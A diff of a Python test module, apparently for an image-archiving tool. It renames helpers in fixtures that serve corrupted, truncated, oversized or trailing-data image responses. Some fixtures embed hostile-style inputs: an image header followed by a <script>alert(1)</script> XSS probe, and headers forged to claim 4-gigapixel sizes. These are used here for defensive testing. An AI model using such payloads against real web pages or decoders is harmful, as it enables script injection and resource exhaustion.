@@ -466,14 +474,14 @@ def damaged() -> dict[str, Server]:
         "AVIF without meta": without_avif_meta(),
         "AVIF of HTML": AVIF[:32] + b"<html><script>alert(1)</script></html>" * 10,
     }
-    return {name: Server(sends(sized(body)), *NO_IMAGE) for name, body in bodies.items()} | {
-        name: Server(sends(sized(body)), *NOT_WHOLE) for name, body in damaged_pixels.items()
+    return {name: Server(send(sized(body)), *NOT_AN_IMAGE) for name, body in bodies.items()} | {
+        name: Server(send(sized(body)), *INCOMPLETE_IMAGE) for name, body in damaged_pixels.items()
     }
 
 
-def more_than_images() -> dict[str, Server]:
-    """Returns complete images with additional data behind them, which are archived as they came."""
-    return {name: Server(sends(sized(image))) for name, image in IMAGES.items() if name not in WHOLE}
+def with_trailing_data() -> dict[str, Server]:
+    """Returns complete images with trailing data, which are archived unchanged."""
+    return {name: Server(send(sized(image))) for name, image in IMAGES.items() if name not in COMPLETE}
 
 
 def oversized() -> dict[str, Server]:
@@ -487,8 +495,8 @@ def oversized() -> dict[str, Server]:
         "JPEG of 4 gigapixels": JPEG[:frame] + sides + JPEG[frame + 4 :],
         "GIF of 4 gigapixels": GIF[:6] + b"\xff\xff\xff\xff" + GIF[10:],
     }
-    return {name: Server(sends(sized(body)), *TOO_MANY_PIXELS) for name, body in bodies.items()} | {
-        "PNG without width": Server(sends(sized(huge_png(0, 10))), *NO_IMAGE),
+    return {name: Server(send(sized(body)), *TOO_MANY_PIXELS) for name, body in bodies.items()} | {
+        "PNG without width": Server(send(sized(huge_png(0, 10))), *NOT_AN_IMAGE),
     }
 
 
@@ -500,22 +508,22 @@ def truncated() -> dict[str, Server]:
         "before the last byte": lambda image: image[:-1],
     }
     silent = {
-        f"{name} cut off {where}": Server(sends(unsized(cut(image))), *NOT_WHOLE)
-        for name, image in WHOLE.items()
+        f"{name} cut off {where}": Server(send(unsized(cut(image))), *INCOMPLETE_IMAGE)
+        for name, image in COMPLETE.items()
         for where, cut in cuts.items()
     }
     declared = {
         f"{name} cut off {where}, with a Content-Length": Server(
-            sends(sized(image)[: len(cut(image)) - len(image)]), *NO_WHOLE_BODY
+            send(sized(image)[: len(cut(image)) - len(image)]), *INCOMPLETE_BODY
         )
-        for name, image in WHOLE.items()
+        for name, image in COMPLETE.items()
         for where, cut in cuts.items()
     }
-    begun = {
-        f"PNG cut off after {length} bytes": Server(sends(unsized(PNG[:length])), UNAVAILABLE, "only")
+    first_bytes = {
+        f"PNG cut off after {length} bytes": Server(send(unsized(PNG[:length])), UNAVAILABLE, "only")
         for length in (0, 1, 7, 11)
     }
-    return silent | declared | begun
+    return silent | declared | first_bytes
 
 
 BEHAVIOURS = dict(rows())
